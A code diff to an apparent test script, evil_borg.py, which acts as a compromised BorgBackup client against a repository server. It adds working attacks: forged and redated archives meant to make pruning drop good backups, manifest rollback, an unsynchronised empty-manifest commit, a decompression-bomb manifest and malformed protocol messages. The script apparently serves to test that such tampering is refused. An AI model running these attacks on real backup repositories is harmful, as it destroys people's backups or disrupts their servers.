@@ -1,5 +1,5 @@
 #!/usr/bin/python3
-"""A borg on a target that was taken over: evil_borg.py ATTACK, then what the engine gives to borg create.
+"""A borg on a target that was taken over: evil_borg.py ATTACK, then what the engine gives to borg create or extract.
 
 It has all that the target has: the way to the repository, and its passphrase. Where it says something to the repository that must not pass, it
 goes on as if nothing had happened, so that what is refused is refused by who reads it.
@@ -61,11 +61,13 @@ class Raw:
         return self.answer() if wait else None
 
     def open(self, path=None, **more):
-        named = {"path": path or url.split("borg-server", 1)[1], "create": False, "lock_wait": 5, "lock": True, "exclusive": True,
+        named = {"path": path or url.split("borg-server", 1)[1], "create": False, "lock_wait": 5, "lock": True, "exclusive": EXCLUSIVE,
                  "append_only": False, "make_parent_dirs": False, **more}
         return self.call("open", **named)
 
 
+# To restore, nobody needs the lock for himself: who asks for it is refused at once, and shows nothing of what comes after.
+EXCLUSIVE = arguments[0] != "extract"
 COMMIT = {"save_space": False, "compact": False, "threshold": 0.1, "cleanup_commits": False}
 MANIFEST = bytes(32)
 
@@ -79,7 +81,7 @@ def library():
     options = argparse.Namespace(remote_path=None, umask=0o077, rsh=None, debug_topics=[], log_level="warning", upload_ratelimit=None,
                                  remote_ratelimit=None, upload_buffer=None, remote_buffer=None, use_socket=False)
     setup_logging()
-    repository = RemoteRepository(Location(url), exclusive=True, lock_wait=5, args=options)
+    repository = RemoteRepository(Location(url), exclusive=EXCLUSIVE, lock_wait=5, args=options)
     repository.__enter__()
     manifest, key = Manifest.load(repository, (Manifest.Operation.READ,))
     return repository, manifest, key
@@ -155,12 +157,77 @@ def forget_archives():
     write(repository, manifest)
 
 
+def forget_one_and_make_one():
+    repository, manifest, _ = library()
+    first, *_, last = archives(manifest)
+    del manifest.archives[first.name]
+    manifest.archives["another"] = (last.id, last.ts)
+    write(repository, manifest)
+
+
+def forge_archives(number=3):
+    """Newer ones than all there are, for whoever keeps the newest."""
+    import datetime
+    repository, manifest, _ = library()
+    some = archives(manifest)[0]
+    for day in range(number):
+        manifest.archives[f"forged-{day}"] = (some.id, datetime.datetime(2099, 1, 1) + datetime.timedelta(minutes=day))
+    write(repository, manifest)
+
+
+def redate_archives():
+    """So that whoever prunes by dates drops the good ones."""
+    import datetime
+    repository, manifest, _ = library()
+    for archive in archives(manifest):
+        del manifest.archives[archive.name]
+        manifest.archives[archive.name] = (archive.id, archive.ts.replace(tzinfo=None) - datetime.timedelta(days=3650))
+    write(repository, manifest)
+
+
+def manifest_of_before():
+    """As it was before the newest archive: it is good, and signed."""
+    repository, manifest, _ = library()
+    del manifest.archives[archives(manifest)[-1].name]
+    write(repository, manifest)
+
+
+def empty_manifest_at_once():
+    """An object, a list without archives and a commit in one piece, with nothing waited for."""
+    import msgpack
+    repository, manifest, key = library()
+    for archive in archives(manifest):
+        del manifest.archives[archive.name]
+    taken = []
+    original, repository.put = repository.put, lambda id, data, wait=True: taken.append(data)
+    manifest.write()
+    repository.put = original
+    messages = b"".join(msgpack.packb({"i": repository.msgid + number, "m": method, "a": named}, use_bin_type=False) for number, (method, named) in
+                        enumerate([("put", {"id": os.urandom(32), "data": b"x" * 3000}), ("put", {"data": taken[0], "id": MANIFEST}),
+                                   ("commit", COMMIT)], 1))
+    os.set_blocking(repository.stdin_fd, True)
+    while messages:
+        messages = messages[os.write(repository.stdin_fd, messages):]
+    while os.read(repository.stdout_fd, 1 << 16):
+        pass
+
+
 def swap_archives():
     """Each name leads to another archive."""
     repository, manifest, _ = library()
     first, *_, last = archives(manifest)
     del manifest.archives[first.name]
     manifest.archives[first.name] = (last.id, last.ts)
+    write(repository, manifest)
+
+
+def swelling_manifest():
+    """Small, and of some gigabytes once it is unpacked."""
+    import zlib
+    repository, manifest, key = library()
+    packer, zeros = zlib.compressobj(1), bytes(1 << 20)
+    packed = b"".join([packer.compress(zeros) for _ in range(2500)] + [packer.flush()])
+    key.compressor.compress = lambda data: packed
     write(repository, manifest)
 
 
@@ -224,9 +291,19 @@ ATTACKS = {
     "another-path": lambda: Raw().open(path=url.split("borg-server", 1)[1].rsplit("/", 1)[0] + "/other"),
     "create-repository": lambda: Raw().open(path=url.split("borg-server", 1)[1] + "2", create=True),
     "without-lock": lambda: Raw().open(lock=False, exclusive=False),
+    "put": lambda: raw("put", id=os.urandom(32), data=b"x" * 1000),
+    "reserve-nonces": lambda: raw("commit_nonce_reservation", next_unreserved=1 << 40, start_nonce=0),
+    "list": lambda: raw("list", limit=1000, marker=None),
     "forget-archives": forget_archives,
+    "forget-one-and-make-one": forget_one_and_make_one,
+    "forge-archives": forge_archives,
+    "many-archives": lambda: forge_archives(200_000),
+    "redate-archives": redate_archives,
+    "manifest-of-before": manifest_of_before,
+    "empty-manifest-at-once": empty_manifest_at_once,
     "swap-archives": swap_archives,
     "garbage-manifest": garbage_manifest,
+    "swelling-manifest": swelling_manifest,
     "oversized-string": lambda: oversized(b"\x83\xa1i\x03\xa1m\xa3put\xa1a\x82\xa2id\xda\x00\x20" + b"i" * 32 + b"\xa4data\xdb\xff\xff\xff\xff"),
     "oversized-map": lambda: oversized(b"\xdf\xff\xff\xff\xff"),
     "nested": lambda: oversized(b"\x91" * 100000),
